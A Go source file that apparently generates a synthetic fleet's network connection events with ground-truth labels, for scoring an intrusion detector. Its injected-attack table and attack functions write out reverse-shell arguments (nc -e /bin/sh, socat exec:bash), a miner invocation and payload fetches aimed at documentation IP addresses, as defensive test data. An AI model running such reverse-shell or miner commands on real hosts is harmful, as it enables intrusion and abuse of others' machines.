// Package sim generates a fleet's outbound connections with ground truth, for measuring
// detection quality: hosts with roles, daemons with their usual destinations, scheduled jobs
// (hourly, daily, weekly, monthly), software rollouts, loopback chatter, and injected attacks
// of several kinds. The same Spec and seed always give the same events and labels.
package sim

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"time"
)

// Label classes. Attacks are what a detector must find; the benign classes name what is new
// or rare but harmless, so false signals can be explained.
const (
	ClassNeverSeenTool = "never-seen-tool" // a tool the fleet never ran (reverse shell, miner)
	ClassReusedName    = "reused-name"     // a common process name, used where it never ran
	// ClassNewDestination is a process common on its host (a trusted binary or daemon)
	// connecting to an external address it never used: exfiltration or C2 through it.
	ClassNewDestination = "new-destination"
	ClassRollout        = "benign-rollout"  // new software on many hosts at once
	ClassSchedule       = "benign-schedule" // a periodic job
	ClassLoopback       = "benign-loopback" // a process talking only to loopback
	// ClassDestinationChange is a provider moving its service to new addresses: every host
	// of a daemon starts using a network it never used, at about the same time.
	ClassDestinationChange = "benign-destination-change"
	// ClassFleet is the first line of a labels file: the fleet's size, not a behaviour.
	ClassFleet = "fleet"
)

// IsAttack reports whether a label class is an attack.
func IsAttack(class string) bool {
	return class == ClassNeverSeenTool || class == ClassReusedName || class == ClassNewDestination
}

// Label is the ground truth of one injected behaviour.
type Label struct {
	ID     string    `json:"id"`
	Class  string    `json:"class"`
	Name   string    `json:"process.name"`
	Hosts  []string  `json:"host.name"`
	Start  time.Time `json:"start"`
	Detail string    `json:"detail,omitempty"`
	// HostDays is set on the fleet line only.
	HostDays float64 `json:"host_days,omitempty"`
}

// WriteLabels writes the fleet line, then every label, as NDJSON.
func (f *Fleet) WriteLabels(w io.Writer) error {
	enc := json.NewEncoder(w)
	if err := enc.Encode(Label{ID: "fleet", Class: ClassFleet, HostDays: f.HostDays(),
		Detail: fmt.Sprintf("seed=%d hosts=%d days=%d", f.Spec.Seed, f.Spec.Hosts, f.Spec.Days)}); err != nil {
		return err
	}
	for _, l := range f.Labels {
		if err := enc.Encode(l); err != nil {
			return err
		}
	}
	return nil
}

// Spec describes a simulated fleet.
type Spec struct {
	Seed    uint64
	Start   time.Time
	Days    int
	Hosts   int
	Attacks int // attacks per class
	// Warmup is how long before the first attack: the model needs history.
	Warmup time.Duration
}

// DefaultSpec is a two-week history of a 24-host fleet with 4 attacks of each class.
func DefaultSpec(seed uint64) Spec {
	return Spec{Seed: seed, Start: time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC), Days: 14, Hosts: 24, Attacks: 4, Warmup: 72 * time.Hour}
}

// How a daemon reaches addresses outside the fleet. The kinds differ in how often a
// destination it never used is benign, which is what a new-destination detector must learn.
const (
	reachNone    = ""        // internal peers only
	reachService = "service" // a few addresses of one provider, stable unless the provider moves
	reachCDN     = "cdn"     // a content network: any of many networks, new ones for weeks
	reachPool    = "pool"    // an NTP pool: a few servers per host, replaced now and then
)

// daemon is a process that uses the network as part of a role's normal operation.
type daemon struct {
	name, exe, user string
	uid             int
	ports           []int   // ports of its internal peers
	every           float64 // fraction of buckets in which it connects
	reach           string  // how it reaches external addresses
	extPort         int     // the port of its external peers
	extShare        float64 // the share of its connections that go external
}

var common = []daemon{
	{"sshd", "/usr/sbin/sshd", "root", 0, []int{22}, 0.6, reachNone, 0, 0},
	{"systemd-resolve", "/lib/systemd/systemd-resolved", "systemd-resolve", 101, []int{53}, 1, reachNone, 0, 0},
	{"chronyd", "/usr/sbin/chronyd", "_chrony", 105, []int{123}, 0.9, reachPool, 123, 1},
	{"node_exporter", "/usr/local/bin/node_exporter", "prometheus", 998, []int{9090}, 0.8, reachNone, 0, 0},
	{"rsyslogd", "/usr/sbin/rsyslogd", "syslog", 104, []int{514}, 0.7, reachNone, 0, 0},
	{"salt-minion", "/usr/bin/salt-minion", "root", 0, []int{4505, 4506}, 0.9, reachNone, 0, 0},
	{"unattended-upgr", "/usr/bin/python3.11", "root", 0, []int{443}, 0.3, reachCDN, 443, 0.8},
	{"apt-get", "/usr/bin/apt-get", "root", 0, []int{80, 443}, 0.3, reachCDN, 80, 0.8},
	{"zabbix_agentd", "/usr/sbin/zabbix_agentd", "zabbix", 112, []int{10051}, 0.9, reachNone, 0, 0},
	{"containerd", "/usr/bin/containerd", "root", 0, []int{443}, 0.4, reachCDN, 443, 0.7},
	{"sssd_be", "/usr/libexec/sssd/sssd_be", "root", 0, []int{389, 636}, 0.6, reachNone, 0, 0},
	{"fluent-bit", "/opt/fluent-bit/bin/fluent-bit", "root", 0, []int{24224}, 0.8, reachNone, 0, 0},
}

// roles and their daemons; a host has one role.
var roles = map[string][]daemon{
	"web": {
		{"nginx", "/usr/sbin/nginx", "www-data", 33, []int{8080, 8443}, 1, reachNone, 0, 0},
		{"php-fpm8.2", "/usr/sbin/php-fpm8.2", "www-data", 33, []int{3306, 6379}, 0.9, reachNone, 0, 0},
		{"node", "/usr/bin/node", "app", 1002, []int{6379}, 0.8, reachService, 443, 0.35},
		{"haproxy", "/usr/sbin/haproxy", "haproxy", 116, []int{8080}, 1, reachNone, 0, 0},
	},
	"db": {
		{"postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", 114, []int{5432}, 0.8, reachNone, 0, 0},
		{"mysqld", "/usr/sbin/mysqld", "mysql", 122, []int{3306}, 0.6, reachNone, 0, 0},
		{"redis-server", "/usr/bin/redis-server", "redis", 115, []int{6379}, 0.7, reachNone, 0, 0},
		{"pgbackrest", "/usr/bin/pgbackrest", "postgres", 114, []int{8432}, 0.2, reachService, 443, 0.5},
	},
	"worker": {
		{"python3", "/usr/bin/python3.11", "app", 1002, []int{5432, 6379}, 0.9, reachService, 443, 0.35},
		{"celery", "/usr/bin/celery", "app", 1002, []int{5672, 6379}, 0.9, reachNone, 0, 0},
		{"java", "/usr/lib/jvm/java-17/bin/java", "app", 1002, []int{9092, 5432}, 1, reachService, 443, 0.2},
		{"curl", "/usr/bin/curl", "app", 1002, []int{443}, 0.5, reachService, 443, 0.6},
	},
	"ops": {
		{"ssh", "/usr/bin/ssh", "deploy", 1001, []int{22}, 0.7, reachNone, 0, 0},
		{"git", "/usr/bin/git", "deploy", 1001, []int{22}, 0.5, reachService, 443, 0.5},
		{"ansible-playboo", "/usr/bin/python3.11", "deploy", 1001, []int{22}, 0.3, reachNone, 0, 0},
		{"wget", "/usr/bin/wget", "deploy", 1001, []int{443}, 0.3, reachService, 443, 0.6},
		{"curl", "/usr/bin/curl", "deploy", 1001, []int{443}, 0.6, reachService, 443, 0.6},
	},
}

var roleOrder = []string{"web", "db", "worker", "ops"}

// job is a scheduled process: it connects only when it runs.
type job struct {
	name, exe string
	port      int
}

// periods are the kinds of schedule; every seed has one job of each, drawn from jobPool, at
// times and on hosts of its own.
var periods = []string{"hourly", "daily", "weekly", "monthly"}

var jobPool = map[string][]job{
	"hourly":  {{"puppet", "/opt/puppetlabs/bin/puppet", 8140}, {"chef-client", "/usr/bin/chef-client", 443}, {"cf-agent", "/var/cfengine/bin/cf-agent", 5308}},
	"daily":   {{"rclone", "/usr/bin/rclone", 443}, {"restic", "/usr/bin/restic", 443}, {"borg", "/usr/bin/borg", 22}, {"freshclam", "/usr/bin/freshclam", 443}},
	"weekly":  {{"certbot", "/usr/bin/certbot", 443}, {"geoipupdate", "/usr/bin/geoipupdate", 443}, {"reposync", "/usr/bin/reposync", 443}},
	"monthly": {{"lynis", "/usr/sbin/lynis", 443}, {"rkhunter", "/usr/bin/rkhunter", 443}, {"oscap", "/usr/bin/oscap", 443}},
}

// agents are the software a rollout installs; each seed rolls one out.
var agents = []struct {
	name, exe string
	port      int
}{
	{"falcon-sensor", "/opt/CrowdStrike/falcon-sensor", 443},
	{"elastic-agent", "/opt/Elastic/Agent/elastic-agent", 8220},
	{"osqueryd", "/opt/osquery/bin/osqueryd", 443},
	{"wazuh-agentd", "/var/ossec/bin/wazuh-agentd", 1514},
	{"datadog-agent", "/opt/datadog-agent/bin/agent/agent", 443},
	{"teleport", "/usr/local/bin/teleport", 3025},
}

// tools are never-seen attack tools, with the arguments an intruder would give them.
var tools = []struct {
	name, exe string
	port      int
	args      []string
}{
	{"nc", "/usr/bin/nc.openbsd", 4444, []string{"nc", "-e", "/bin/sh"}},
	{"socat", "/usr/bin/socat", 443, []string{"socat", "exec:bash -li,pty,stderr", "tcp:"}},
	{"perl", "/usr/bin/perl", 4444, []string{"perl", "-e", "use Socket;..."}},
	{"xmrig", "/tmp/.cache/xmrig", 3333, []string{"xmrig", "-o", "stratum+tcp://"}},
	{"kworkerds", "/tmp/.X11-unix/kworkerds", 3333, []string{"kworkerds"}},
	{"kdevtmpfsi", "/tmp/kdevtmpfsi", 3333, []string{"kdevtmpfsi"}},
	{"ncat", "/usr/bin/ncat", 8443, []string{"ncat", "--ssl"}},
	{"chisel", "/dev/shm/chisel", 443, []string{"chisel", "client"}},
}

// Fleet is a simulated history: its events in time order and the ground truth.
type Fleet struct {
	Spec   Spec
	Hosts  []Host
	Events []Event
	Labels []Label
}

// Host is a simulated host.
type Host struct{ Name, Role string }

// HostDays is the fleet's size in host-days, the unit of false-signal rates.
func (f *Fleet) HostDays() float64 { return float64(f.Spec.Hosts * f.Spec.Days) }

const bucket = 15 * time.Minute

// Simulate generates the fleet.
func Simulate(s Spec) *Fleet {
	rng := rand.New(rand.NewPCG(s.Seed, s.Seed*0x9e3779b97f4a7c15+1))
	f := &Fleet{Spec: s}
	for i := range s.Hosts {
		role := roleOrder[i%len(roleOrder)]
		f.Hosts = append(f.Hosts, Host{fmt.Sprintf("%s-%02d", role, i/len(roleOrder)+1), role})
	}
	buckets := s.Days * 24 * 4
	end := s.Start.Add(time.Duration(buckets) * bucket)
	at := func(b int) time.Time {
		return s.Start.Add(time.Duration(b)*bucket + time.Duration(rng.Int64N(int64(bucket)))).Truncate(time.Millisecond)
	}
	ext := newExternal(rng, s, f.Hosts)
	daemons := make([][]daemon, len(f.Hosts))
	for h, host := range f.Hosts {
		daemons[h] = append(slices.Clone(common), roles[host.Role]...)
	}
	for b := range buckets {
		ext.churn(rng)
		for h, host := range f.Hosts {
			for i, d := range daemons[h] {
				if rng.Float64() >= d.every {
					continue
				}
				t := at(b)
				ip, port := fmt.Sprintf("10.%d.%d.%d", 10+i%20, h%16, 1+rng.IntN(20)), d.ports[rng.IntN(len(d.ports))]
				if d.reach != reachNone && rng.Float64() < d.extShare {
					ip, port = ext.address(rng, d, h, host, t), d.extPort
				}
				f.Events = append(f.Events, Event{Time: t, Host: host.Name, Name: d.name, Exe: d.exe, User: d.user, UID: d.uid,
					PID: 1000 + 31*i + h, DestIP: ip, Port: port, Args: []string{d.exe}, Cwd: "/", Outcome: "success"})
			}
			// Loopback chatter: db hosts ping their local redis; it must never signal.
			if host.Role == "db" && rng.IntN(6) == 0 {
				f.Events = append(f.Events, Event{Time: at(b), Host: host.Name, Name: "redis-cli", Exe: "/usr/bin/redis-cli",
					User: "redis", UID: 115, PID: 7000 + h, DestIP: "127.0.0.1", Port: 6379, Args: []string{"redis-cli", "ping"}, Cwd: "/", Outcome: "success"})
			}
		}
	}
	f.Labels = append(f.Labels, Label{ID: "loopback-redis-cli", Class: ClassLoopback, Name: "redis-cli", Hosts: f.hostsOf("db"), Start: s.Start})
	f.Labels = append(f.Labels, ext.changeLabels()...)
	f.scheduled(rng, end)
	f.rollout(rng)
	f.attacks(rng)
	slices.SortStableFunc(f.Events, func(a, b Event) int { return a.Time.Compare(b.Time) })
	slices.SortStableFunc(f.Labels, func(a, b Label) int { return a.Start.Compare(b.Start) })
	return f
}

func (f *Fleet) hostsOf(role string) []string {
	var out []string
	for _, h := range f.Hosts {
		if role == "" || h.Role == role {
			out = append(out, h.Name)
		}
	}
	return out
}

// external is where daemons connect outside the fleet, drawn per seed: each service
// provider's network, two content networks, each host's NTP servers, and one provider that
// moves to a new network during the history.
type external struct {
	start    time.Time
	provider map[string]string   // daemon name -> provider's /24 prefix ("a.b.c")
	cdn      map[string][]string // content network -> its /24 prefixes
	pool     [][]string          // per host: its NTP servers
	move     *providerMove
}

// providerMove is a provider moving one role's daemon to a network it never used, every host
// within half an hour: a benign new destination, labelled on each host at its first use.
type providerMove struct {
	daemon, role, to string
	at               map[string]time.Time // host -> when it switches
	labels           []Label
}

// ntpPoolFirstOctets are first octets of public address space NTP pool servers are drawn
// from: volunteers' servers are spread over many networks.
var ntpPoolFirstOctets = []int{5, 31, 37, 45, 51, 62, 78, 80, 85, 91, 94, 129, 138, 144, 162, 176, 185, 193, 195, 212, 217}

func newExternal(rng *rand.Rand, s Spec, hosts []Host) *external {
	e := &external{start: s.Start, provider: map[string]string{}, cdn: map[string][]string{}}
	var movable []daemon
	var movableRole []string
	for _, role := range roleOrder {
		for _, d := range roles[role] {
			if d.reach == reachService {
				if _, ok := e.provider[d.name]; !ok {
					e.provider[d.name] = fmt.Sprintf("%d.%d.%d", 34+rng.IntN(20), rng.IntN(256), rng.IntN(256))
				}
				movable, movableRole = append(movable, d), append(movableRole, role)
			}
		}
	}
	// Two content networks of 64 /24s each: a Debian mirror CDN and a container registry's.
	for _, third := range rng.Perm(256)[:64] {
		e.cdn["apt"] = append(e.cdn["apt"], fmt.Sprintf("151.101.%d", third))
	}
	for _, n := range rng.Perm(16 * 256)[:64] {
		e.cdn["registry"] = append(e.cdn["registry"], fmt.Sprintf("104.%d.%d", 16+n/256, n%256))
	}
	// chrony's default is at most 4 sources from a pool (chrony.conf(5), maxsources).
	e.pool = make([][]string, len(hosts))
	for h := range hosts {
		for range 4 {
			e.pool[h] = append(e.pool[h], ntpServer(rng))
		}
	}
	k := rng.IntN(len(movable))
	span := time.Duration(s.Days)*24*time.Hour - s.Warmup - 24*time.Hour
	when := s.Start.Add(s.Warmup + time.Duration(rng.Int64N(int64(max(span, time.Hour))))).Truncate(time.Minute)
	mv := &providerMove{daemon: movable[k].name, role: movableRole[k], at: map[string]time.Time{},
		to: fmt.Sprintf("%d.%d.%d", 54+rng.IntN(20), rng.IntN(256), rng.IntN(256))}
	for _, h := range hosts {
		if h.Role == mv.role {
			mv.at[h.Name] = when.Add(time.Duration(rng.Int64N(int64(30 * time.Minute))))
		}
	}
	e.move = mv
	return e
}

func ntpServer(rng *rand.Rand) string {
	return fmt.Sprintf("%d.%d.%d.%d", ntpPoolFirstOctets[rng.IntN(len(ntpPoolFirstOctets))], rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
}

// churn replaces, each bucket, an NTP server now and then: about one of a host's four
// servers every ten days, as pool servers leave or stop answering.
func (e *external) churn(rng *rand.Rand) {
	for h := range e.pool {
		if rng.Float64() < 4*0.1/96 {
			e.pool[h][rng.IntN(len(e.pool[h]))] = ntpServer(rng)
		}
	}
}

// address is the external address daemon d on host h connects to at t.
func (e *external) address(rng *rand.Rand, d daemon, h int, host Host, t time.Time) string {
	switch d.reach {
	case reachPool:
		return e.pool[h][rng.IntN(len(e.pool[h]))]
	case reachCDN:
		nets := e.cdn["registry"]
		if d.name == "apt-get" || d.name == "unattended-upgr" {
			nets = e.cdn["apt"]
		}
		return fmt.Sprintf("%s.%d", nets[rng.IntN(len(nets))], 1+rng.IntN(254))
	}
	prefix := e.provider[d.name]
	if mv := e.move; mv.daemon == d.name && host.Role == mv.role {
		if switched, ok := mv.at[host.Name]; ok && !t.Before(switched) {
			ip := fmt.Sprintf("%s.%d", mv.to, 1+rng.IntN(4))
			if !slices.ContainsFunc(mv.labels, func(l Label) bool { return l.Hosts[0] == host.Name }) {
				mv.labels = append(mv.labels, Label{ID: "destination-change-" + d.name + "-" + host.Name, Class: ClassDestinationChange,
					Name: d.name, Hosts: []string{host.Name}, Start: t, Detail: "provider moved to " + mv.to + ".0/24"})
			}
			return ip
		}
	}
	return fmt.Sprintf("%s.%d", prefix, 1+rng.IntN(4))
}

func (e *external) changeLabels() []Label { return e.move.labels }

// scheduled adds one job of each period, drawn from the pool with its own time of day (and
// weekday or day of the month) and its own hosts: a role, the whole fleet, or a random part
// of it. Every run is labelled.
func (f *Fleet) scheduled(rng *rand.Rand, end time.Time) {
	for p, period := range periods {
		pool := jobPool[period]
		j := pool[rng.IntN(len(pool))]
		hosts := f.pickHosts(rng)
		runs := f.runTimes(rng, period, end)
		dest := fmt.Sprintf("198.18.%d", 10*p+40*rng.IntN(6))
		for k, t := range runs {
			for h, host := range hosts {
				f.Events = append(f.Events, Event{Time: t.Add(time.Duration(h) * time.Second), Host: host, Name: j.name, Exe: j.exe,
					User: "root", UID: 0, PID: 20000 + k, DestIP: fmt.Sprintf("%s.%d", dest, 1+h%8), Port: j.port,
					Args: []string{j.exe}, Cwd: "/", Outcome: "success"})
			}
			f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("schedule-%s-%d", j.name, k), Class: ClassSchedule, Name: j.name, Hosts: hosts,
				Start: t, Detail: period})
		}
	}
}

// pickHosts draws the hosts of a job: a role's, every host, or a random share of the fleet.
func (f *Fleet) pickHosts(rng *rand.Rand) []string {
	switch rng.IntN(3) {
	case 0:
		return f.hostsOf(roleOrder[rng.IntN(len(roleOrder))])
	case 1:
		return f.hostsOf("")
	}
	all := f.hostsOf("")
	n := max(1, len(all)*(30+rng.IntN(51))/100)
	var out []string
	for _, i := range rng.Perm(len(all))[:n] {
		out = append(out, all[i])
	}
	slices.Sort(out)
	return out
}

// runTimes draws a job's phase (minute, hour, weekday or day of the month) and returns its
// runs within the history. A monthly job whose day is outside a short history runs once, on
// a random day, so that every history sees one.
func (f *Fleet) runTimes(rng *rand.Rand, period string, end time.Time) []time.Time {
	start := f.Spec.Start
	minute := time.Duration(rng.IntN(60)) * time.Minute
	hour := time.Duration(rng.IntN(24)) * time.Hour
	every := func(first time.Time, step time.Duration) []time.Time {
		var runs []time.Time
		for t := first; t.Before(end); t = t.Add(step) {
			runs = append(runs, t)
		}
		return runs
	}
	switch period {
	case "hourly":
		return every(start.Add(minute), time.Hour)
	case "daily":
		return every(start.Add(hour+minute), 24*time.Hour)
	case "weekly": // on a weekday within the history, so that a short one sees a run too
		return every(start.Add(time.Duration(rng.IntN(min(7, f.Spec.Days)))*24*time.Hour+hour+minute), 7*24*time.Hour)
	}
	var runs []time.Time
	day := 1 + rng.IntN(28)
	for t := time.Date(start.Year(), start.Month(), day, 0, 0, 0, 0, time.UTC).Add(hour + minute); t.Before(end); t = t.AddDate(0, 1, 0) {
		if !t.Before(start) {
			runs = append(runs, t)
		}
	}
	if len(runs) == 0 {
		days := int(end.Sub(start) / (24 * time.Hour))
		runs = append(runs, start.Add(time.Duration(rng.IntN(max(days, 1)))*24*time.Hour+hour+minute))
	}
	return runs
}

// rollout adds one software rollout, drawn per seed: an agent installed on a random share of
// the fleet (from a quarter to all of it) within a random window of a quarter of an hour to
// two hours (a configuration management run or two) after the warm-up, then in regular use.
func (f *Fleet) rollout(rng *rand.Rand) {
	a := agents[rng.IntN(len(agents))]
	span := time.Duration(f.Spec.Days)*24*time.Hour - f.Spec.Warmup
	t0 := f.Spec.Start.Add(f.Spec.Warmup + time.Duration(rng.Int64N(int64(max(span/2, time.Hour))))).Truncate(time.Minute)
	spread := 15*time.Minute + time.Duration(rng.Int64N(int64(105*time.Minute)))
	end := f.Spec.Start.Add(time.Duration(f.Spec.Days) * 24 * time.Hour)
	all := f.hostsOf("")
	n := max(min(3, len(all)), len(all)*(25+rng.IntN(76))/100)
	var hosts []string
	for _, i := range rng.Perm(len(all))[:n] {
		hosts = append(hosts, all[i])
	}
	slices.Sort(hosts)
	dest := fmt.Sprintf("198.18.%d.%d", 100+rng.IntN(100), 1+rng.IntN(254))
	// One label per host, from its install: a rollout longer than the evaluation's window
	// is still matched on every host.
	for h, host := range hosts {
		start := t0.Add(time.Duration(rng.Int64N(int64(spread))))
		for t := start; t.Before(end); t = t.Add(bucket) {
			f.Events = append(f.Events, Event{Time: t, Host: host, Name: a.name, Exe: a.exe, User: "root",
				PID: 30000 + h, DestIP: dest, Port: a.port, Args: []string{a.exe}, Cwd: "/", Outcome: "success"})
		}
		f.Labels = append(f.Labels, Label{ID: "rollout-" + a.name + "-" + host, Class: ClassRollout, Name: a.name, Hosts: []string{host},
			Start: start, Detail: fmt.Sprintf("%d hosts from %s within %s", len(hosts), t0.Format(time.RFC3339), spread.Round(time.Minute))})
	}
}

// attacks injects Spec.Attacks attacks of each class after the warm-up.
func (f *Fleet) attacks(rng *rand.Rand) {
	span := time.Duration(f.Spec.Days)*24*time.Hour - f.Spec.Warmup - 2*time.Hour
	when := func() time.Time {
		return f.Spec.Start.Add(f.Spec.Warmup + time.Duration(rng.Int64N(int64(span)))).Truncate(time.Second)
	}
	order := rng.Perm(len(tools))
	for k := range f.Spec.Attacks {
		tool := tools[order[k%len(tools)]]
		host := f.Hosts[rng.IntN(len(f.Hosts))]
		t := when()
		ip := fmt.Sprintf("203.0.113.%d", 10+k)
		for e := range 1 + rng.IntN(3) {
			f.Events = append(f.Events, Event{Time: t.Add(time.Duration(e) * 7 * time.Second), Host: host.Name, Name: tool.name, Exe: tool.exe,
				User: "www-data", UID: 33, PID: 40000 + k, DestIP: ip, Port: tool.port, Args: append(slices.Clone(tool.args), ip),
				Cwd: "/tmp", Outcome: "success"})
		}
		f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("attack-tool-%d", k), Class: ClassNeverSeenTool, Name: tool.name,
			Hosts: []string{host.Name}, Start: t, Detail: tool.exe})
	}
	// Reused names: a process that is common in the fleet, on a host whose role never runs it,
	// to a destination the fleet never used.
	for k := range f.Spec.Attacks {
		var host Host
		var d daemon
		for {
			host = f.Hosts[rng.IntN(len(f.Hosts))]
			other := roleOrder[rng.IntN(len(roleOrder))]
			if other == host.Role {
				continue
			}
			cands := roles[other]
			d = cands[rng.IntN(len(cands))]
			if !slices.ContainsFunc(roles[host.Role], func(x daemon) bool { return x.name == d.name }) {
				break
			}
		}
		t := when()
		ip := fmt.Sprintf("192.0.2.%d", 10+k)
		f.Events = append(f.Events, Event{Time: t, Host: host.Name, Name: d.name, Exe: d.exe, User: "www-data", UID: 33, PID: 50000 + k,
			DestIP: ip, Port: 443, Args: []string{d.exe, "http://" + ip + "/x"}, Cwd: "/tmp", Outcome: "success"})
		f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("attack-reuse-%d", k), Class: ClassReusedName, Name: d.name,
			Hosts: []string{host.Name}, Start: t, Detail: "usually on " + roleOf(d.name) + " hosts"})
	}
	f.newDestinations(rng, when)
}

// newDestinations injects the attacks through a trusted binary: a daemon that runs in most
// buckets on its host connects to an external address it never used, on HTTPS or on its own
// port to blend in (a log shipper to an outside syslog port, a resolver to an outside DNS
// server), a few times within a minute.
func (f *Fleet) newDestinations(rng *rand.Rand, when func() time.Time) {
	for k := range f.Spec.Attacks {
		host := f.Hosts[rng.IntN(len(f.Hosts))]
		var cands []daemon
		for _, d := range append(slices.Clone(common), roles[host.Role]...) {
			if d.every >= 0.5 {
				cands = append(cands, d)
			}
		}
		d := cands[rng.IntN(len(cands))]
		port := 443
		if rng.IntN(2) == 0 {
			port = d.ports[0]
			if d.reach != reachNone {
				port = d.extPort
			}
		}
		t := when()
		// Each attack has its own server, in a network no daemon of the fleet uses.
		ip := fmt.Sprintf("%d.%d.%d.%d", 160+rng.IntN(30), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
		for e := range 1 + rng.IntN(3) {
			f.Events = append(f.Events, Event{Time: t.Add(time.Duration(e) * 11 * time.Second), Host: host.Name, Name: d.name, Exe: d.exe,
				User: d.user, UID: d.uid, PID: 60000 + k, DestIP: ip, Port: port, Args: []string{d.exe}, Cwd: "/", Outcome: "success"})
		}
		f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("attack-destination-%d", k), Class: ClassNewDestination, Name: d.name,
			Hosts: []string{host.Name}, Start: t, Detail: fmt.Sprintf("%s:%d, never used by %s on %s", ip, port, d.name, host.Name)})
	}
}

func roleOf(name string) string {
	for _, r := range roleOrder {
		if slices.ContainsFunc(roles[r], func(d daemon) bool { return d.name == name }) {
			return r
		}
	}
	return "other"
}
